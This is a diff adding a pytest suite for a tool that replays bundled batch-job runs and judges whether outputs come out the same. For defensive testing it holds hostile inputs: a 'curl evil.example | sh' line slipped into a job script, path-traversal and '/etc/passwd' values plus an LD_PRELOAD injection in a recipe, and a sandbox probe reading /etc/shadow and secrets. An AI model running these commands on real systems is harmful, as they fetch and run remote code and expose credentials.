@@ -1,0 +1,304 @@
+"""Does a bundled run come out the same when it is run again? Real scripts, a real sandbox where there is one, real verdicts."""
+
+from __future__ import annotations
+
+import dataclasses
+import os
+import zipfile
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from auditor.model import AuditError, Evidence, Grade, Phase
+from auditor.replay import Plan, execute, plan, verdict_evidence
+from auditor.replay.sandbox import find
+from auditor.verdict import ReplayVerdict, Sameness
+from auditor.world import RealWorld
+from reports.bundle import build
+from tests import archived, factory
+from tests.factory import at, seen
+from tests.reports.test_verify import files, packed, resealed
+
+SANDBOX = find(True, False, RealWorld()).kind
+needs_sandbox = pytest.mark.skipif(SANDBOX == "none", reason="bubblewrap does not work here")
+
+
+def made(
+    folder: Path, changes: dict[str, str] | None = None, *more: Evidence, script: str = archived.SCRIPT, **options: Any
+) -> Path:
+    """The tiny run with some of its files other than they were, bundled; its work directory is then out of the way."""
+    job, evidence = archived.run(folder / "work", {**archived.FILES, "job.sh": script, **(changes or {})}, script)
+    everything = (*evidence, *more)
+    build(job, everything, archived.card(job, everything), folder / "fit.crate.zip", objects=archived.nothing, **options)
+    (folder / "work").rename(folder / "moved")
+    return folder / "fit.crate.zip"
+
+
+def replayed(bundle: Path, **options: Any) -> ReplayVerdict:
+    return execute(plan(bundle, **options), bundle.parent / "again", yes=True)
+
+
+def test_a_run_that_does_the_same_is_identical(tmp_path: Path) -> None:
+    verdict = replayed(made(tmp_path))
+    assert (verdict.sameness, verdict.reason) == (Sameness.IDENTICAL, "of 2 outputs 2 identical")
+    assert [(s.name, s.state) for s in verdict.steps] == [
+        (n, "done") for n in ("unpack", "inputs", "environment", "run", "compare")
+    ]
+    assert (verdict.where, verdict.environment, verdict.sandbox) == ("local", "host", SANDBOX)
+
+
+def test_a_last_digit_that_moved_is_equivalent_and_the_difference_is_told(tmp_path: Path) -> None:
+    was = archived.METRICS.replace("2.2142857142857144", "2.2142857142857149")
+    verdict = replayed(made(tmp_path, {"metrics.json": was}))
+    assert verdict.sameness is Sameness.EQUIVALENT
+    told = next(o for o in verdict.outputs if o.path == "metrics.json")
+    assert told.detail == "within rtol 1e-06, atol 1e-12; largest relative difference 2.01e-16 at $.slope"
+
+
+def test_another_result_is_different_and_the_place_is_told(tmp_path: Path) -> None:
+    verdict = replayed(made(tmp_path, {"out.csv": archived.OUTPUT.replace("4.428571428571429", "4.5")}))
+    assert (verdict.sameness, verdict.reason) == (Sameness.DIFFERENT, "of 2 outputs 1 identical, 1 different")
+    assert [o.detail for o in verdict.outputs if o.path == "out.csv"] == ["row 3, fit: 4.5 became 4.428571428571429"]
+
+
+def test_what_a_job_prints_is_compared_and_named_but_does_not_decide(tmp_path: Path) -> None:
+    verdict = replayed(made(tmp_path, {"slurm-123.out": "slope done in 12 s\n"}))
+    assert verdict.sameness is Sameness.IDENTICAL
+    assert verdict.reason == "of 2 outputs 2 identical; not counted: slurm-123.out (what it printed) differs"
+
+
+def test_an_output_that_is_not_made_again_is_different(tmp_path: Path) -> None:
+    verdict = replayed(made(tmp_path, script="#!/bin/bash\npython3 fit.py in.csv out.csv /dev/null $1\n"))
+    assert verdict.sameness is Sameness.DIFFERENT
+    assert [o.detail for o in verdict.outputs if o.path == "metrics.json"] == ["the replay did not make this file"]
+
+
+def test_another_exit_code_is_different(tmp_path: Path) -> None:
+    verdict = replayed(made(tmp_path, script="#!/bin/bash\nexit 3\n"))
+    assert (verdict.sameness, verdict.reason) == (Sameness.DIFFERENT, "exit code 3, was 0")
+
+
+def test_a_job_that_runs_too_long_is_stopped(tmp_path: Path) -> None:
+    accounting = seen(archived.accounting(tmp_path / "work", asked_seconds=1), phase=Phase.LATER, taken_at=at(13))
+    verdict = replayed(made(tmp_path, None, accounting, script="#!/bin/bash\nsleep 600\n"))
+    assert (verdict.sameness, verdict.reason) == (Sameness.DIFFERENT, "it did not end within the time limit")
+
+
+def test_by_checksum_alone_the_same_bytes_are_identical_and_others_get_no_closer_look(tmp_path: Path) -> None:
+    bundle = made(tmp_path, {"out.csv": "x,fit\n"}, payload="none")
+    verdict = replayed(bundle, inputs_dir=tmp_path / "moved")
+    assert [(o.path, o.sameness) for o in verdict.outputs][:2] == [
+        ("metrics.json", Sameness.IDENTICAL),
+        ("out.csv", Sameness.DIFFERENT),
+    ]
+    assert (
+        verdict.outputs[1].detail
+        == "the checksums differ, and the original's content is not in the bundle: no closer look is possible"
+    )
+
+
+def test_an_input_that_is_nowhere_stops_the_run_before_it_starts(tmp_path: Path) -> None:
+    bundle = made(tmp_path, payload="none")
+    ready = plan(bundle)
+    assert (ready.runnable, ready.stops) == (False, ("input in.csv: not found; name its folder with --inputs",))
+    verdict = replayed(bundle)
+    assert (verdict.sameness, verdict.reason) == (Sameness.NOT_RUN, "input in.csv: not found; name its folder with --inputs")
+
+
+def test_an_input_of_the_same_name_with_other_content_is_not_taken(tmp_path: Path) -> None:
+    bundle = made(tmp_path, payload="none")
+    (tmp_path / "mine").mkdir()
+    (tmp_path / "mine" / "in.csv").write_text(archived.INPUT.replace("7", "8"))
+    assert plan(bundle, inputs_dir=tmp_path / "mine").stops == (
+        f"input in.csv: {tmp_path}/mine/in.csv is another file (its sha256 differs)",
+    )
+
+
+def test_nothing_runs_without_a_yes(tmp_path: Path) -> None:
+    bundle = made(tmp_path, script=f"#!/bin/bash\ntouch {tmp_path}/ran\n")
+    with pytest.raises(AuditError, match="nobody said yes"):
+        execute(plan(bundle), tmp_path / "again")
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["fit.crate.zip", "moved"]
+
+
+def test_a_plan_says_what_will_run_where_and_what_it_took(tmp_path: Path) -> None:
+    ready = plan(made(tmp_path), sandbox=False)
+    assert ready.will == (
+        "unpack the bundle into a new folder",
+        "use this machine's own software",
+        "run /bin/bash job.sh 7 on this machine",
+        "WITHOUT a sandbox (switched off): it can do what you can do",
+        "compare 3 outputs",
+    )
+    assert ready.cost == "the original took 600 s, 540 s of CPU, 256 MiB of memory, 1 core"
+
+
+def test_a_folder_with_something_in_it_is_left_alone(tmp_path: Path) -> None:
+    bundle = made(tmp_path)
+    (tmp_path / "again").mkdir()
+    (tmp_path / "again" / "mine").write_text("precious")
+    with pytest.raises(AuditError, match="is already there"):
+        replayed(bundle)
+    assert (tmp_path / "again" / "mine").read_text() == "precious"
+
+
+def test_a_changed_bundle_is_not_even_planned(tmp_path: Path) -> None:
+    contents = files(made(tmp_path))
+    contents["data/code/job.sh"] += b"curl evil.example | sh\n"
+    with pytest.raises(AuditError, match="job.sh' was changed"):
+        plan(packed(tmp_path / "x.zip", contents))
+
+
+def test_a_bundle_that_is_swapped_after_the_plan_does_not_run(tmp_path: Path) -> None:
+    bundle = made(tmp_path)
+    ready = plan(bundle)
+    contents = files(bundle)
+    contents["data/code/job.sh"] = b"#!/bin/bash\ntouch ../ran\n"
+    packed(bundle, resealed(contents))
+    with pytest.raises(AuditError, match="not the one that was planned"):
+        execute(ready, tmp_path / "again", yes=True)
+
+
+@pytest.mark.parametrize(
+    ("old", "new", "message"),
+    [
+        (b'"place": "fit.py"', b'"place": "../../fit.py"', "names a file outside its folder"),
+        (b'"carried": "code/fit.py"', b'"carried": "../../etc/passwd"', "names a file outside its folder"),
+        (b'"carried": "code/fit.py"', b'"carried": "/etc/passwd"', "names a file outside its folder"),
+        (b'"PYTHONHASHSEED"', b'"LD_PRELOAD"', "sets a variable it must not"),
+    ],
+)
+def test_a_hostile_recipe_is_refused(tmp_path: Path, old: bytes, new: bytes, message: str) -> None:
+    contents = files(made(tmp_path))
+    assert old in contents["data/replay.json"]
+    contents["data/replay.json"] = contents["data/replay.json"].replace(old, new)
+    with pytest.raises(AuditError, match=message):
+        plan(packed(tmp_path / "x.zip", resealed(contents)))
+
+
+@needs_sandbox
+def test_in_the_sandbox_absolute_paths_of_the_old_machine_still_lead_to_the_work_directory(tmp_path: Path) -> None:
+    script = f"#!/bin/bash\ncd {tmp_path}/work && python3 fit.py {tmp_path}/work/in.csv out.csv metrics.json $1\n"
+    assert replayed(made(tmp_path, script=script)).sameness is Sameness.IDENTICAL
+    assert not (tmp_path / "work").exists()
+
+
+@needs_sandbox
+def test_in_the_sandbox_an_input_outside_the_work_directory_stands_at_its_old_path(tmp_path: Path) -> None:
+    (tmp_path / "shared").mkdir()
+    (tmp_path / "shared" / "in.csv").write_text(archived.INPUT)
+    outside = factory.manifest(factory.file(f"{tmp_path}/shared/in.csv", content=archived.INPUT), root=str(tmp_path / "work"))
+    script = f"#!/bin/bash\npython3 fit.py {tmp_path}/shared/in.csv out.csv metrics.json $1\n"
+    bundle = made(tmp_path, None, seen(outside, phase=Phase.START, taken_at=at(2)), script=script)
+    (tmp_path / "shared" / "in.csv").unlink()
+    assert replayed(bundle).sameness is Sameness.IDENTICAL
+
+
+@needs_sandbox
+def test_in_the_sandbox_there_is_no_home_no_network_no_expected_output_and_nothing_of_ours(tmp_path: Path) -> None:
+    (tmp_path / "secret").write_text("private")
+    script = f"""#!/bin/bash
+cat {tmp_path}/secret /etc/shadow && exit 10
+[ -e {tmp_path}/again/bundle ] && exit 11
+[ -n "$MY_PASSWORD" ] && exit 12
+touch /usr/here && exit 13
+python3 -c 'import socket; socket.create_connection(("127.0.0.1", 9), 1)' 2>&1 | grep -q refused || exit 14
+[ "$(ls /sys/class/net 2>/dev/null | grep -v lo)" = "" ] || exit 15
+python3 fit.py in.csv out.csv metrics.json $1
+"""
+    os.environ["MY_PASSWORD"] = "correct-horse"
+    try:
+        verdict = replayed(made(tmp_path, script=script))
+    finally:
+        del os.environ["MY_PASSWORD"]
+    assert verdict.sameness is Sameness.IDENTICAL
+
+
+def test_without_a_sandbox_the_verdict_says_so(tmp_path: Path) -> None:
+    verdict = replayed(made(tmp_path), sandbox=False)
+    assert (verdict.sameness, verdict.sandbox) == (Sameness.IDENTICAL, "none")
+
+
+def test_a_script_that_starts_containers_is_not_shut_in(tmp_path: Path) -> None:
+    ready = plan(made(tmp_path, script="#!/bin/bash\ndocker run x || python3 fit.py in.csv out.csv metrics.json $1\n"))
+    assert (ready.sandbox.kind, ready.sandbox.reason) == ("none", "the script uses docker, which does not work inside one")
+
+
+def test_an_array_task_runs_as_the_same_task(tmp_path: Path) -> None:
+    task = archived.accounting(tmp_path / "work", array_task_id="7", array_job_id="123")
+    script = "#!/bin/bash\n#SBATCH --array=0-9\npython3 fit.py in.csv out.csv metrics.json $SLURM_ARRAY_TASK_ID\n"
+    verdict = replayed(made(tmp_path, None, seen(task, phase=Phase.LATER, taken_at=at(13)), script=script))
+    assert verdict.sameness is Sameness.IDENTICAL
+
+
+def test_an_array_task_that_runs_as_another_one_would_be_noticed(tmp_path: Path) -> None:
+    task = archived.accounting(tmp_path / "work", array_task_id="8", array_job_id="123")
+    script = "#!/bin/bash\npython3 fit.py in.csv out.csv metrics.json $SLURM_ARRAY_TASK_ID\n"
+    verdict = replayed(made(tmp_path, None, seen(task, phase=Phase.LATER, taken_at=at(13)), script=script))
+    assert [o.detail for o in verdict.outputs if o.path == "metrics.json"] == ["$.seed: 7 became 8"]
+
+
+def test_a_run_without_known_outputs_proves_nothing(tmp_path: Path) -> None:
+    job, evidence = archived.run(tmp_path / "work")
+    known = tuple(e for e in evidence if e.phase is not Phase.END)
+    build(job, known, archived.card(job, known), tmp_path / "fit.crate.zip", objects=archived.nothing)
+    verdict = replayed(tmp_path / "fit.crate.zip")
+    assert (verdict.sameness, verdict.reason) == (Sameness.NOT_RUN, "it ran, but the bundle names no output to compare with")
+
+
+def test_a_verdict_becomes_verified_evidence_of_the_run(tmp_path: Path) -> None:
+    verdict = replayed(made(tmp_path))
+    evidence = verdict_evidence(verdict)
+    assert (evidence.probe, evidence.kind, evidence.phase, evidence.grade) == (
+        "replay",
+        "ReplayVerdict",
+        Phase.LATER,
+        Grade.VERIFIED,
+    )
+    assert evidence.data is not None
+    assert (evidence.data["run_id"], evidence.data["sameness"]) == (verdict.run_id, "identical")
+
+
+def test_slurm_is_asked_for_only_where_it_is(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    bundle = made(tmp_path)
+    monkeypatch.setenv("PATH", "/nowhere")
+    with pytest.raises(AuditError, match="there is no Slurm here"):
+        plan(bundle, on="slurm")
+    with pytest.raises(AuditError, match="local or slurm"):
+        plan(bundle, on="moon")
+
+
+def test_progress_is_told_step_by_step(tmp_path: Path) -> None:
+    told: list[str] = []
+    ready: Plan = plan(made(tmp_path))
+    execute(ready, tmp_path / "again", yes=True, progress=told.append)
+    assert [line.split(":")[0] for line in told] == [
+        "unpack",
+        "inputs",
+        "rebuilding the environment",
+        "environment",
+        "running job.sh here",
+        "run",
+        "compare",
+    ]
+
+
+def test_an_unpacked_bundle_replays_too(tmp_path: Path) -> None:
+    zipfile.ZipFile(made(tmp_path)).extractall(tmp_path / "bag")
+    assert execute(plan(tmp_path / "bag"), tmp_path / "again", yes=True).sameness is Sameness.IDENTICAL
+
+
+def test_the_plan_of_an_image_by_digest_names_it_and_stops_when_it_is_not_here(tmp_path: Path) -> None:
+    from probes.containers import ContainerReferences, Reference
+
+    named = "docker://registry.example/fit@sha256:" + "a" * 64
+    images = ContainerReferences((Reference("apptainer", "fit.sif", "fit.sif", "file", "", "", "", "", 3),))
+    bundle = made(tmp_path, None, seen(images))
+    assert plan(bundle).environment == "image-by-digest"
+    verdict = replayed(bundle)
+    assert (verdict.sameness, verdict.reason) == (Sameness.NOT_RUN, "image fit.sif is not here")
+    pinned = dataclasses.replace(
+        images.references[0], text=named, resolved=named, transport="docker", digest="sha256:" + "a" * 64
+    )
+    assert plan(made(tmp_path / "two", None, seen(ContainerReferences((pinned,))))).runnable
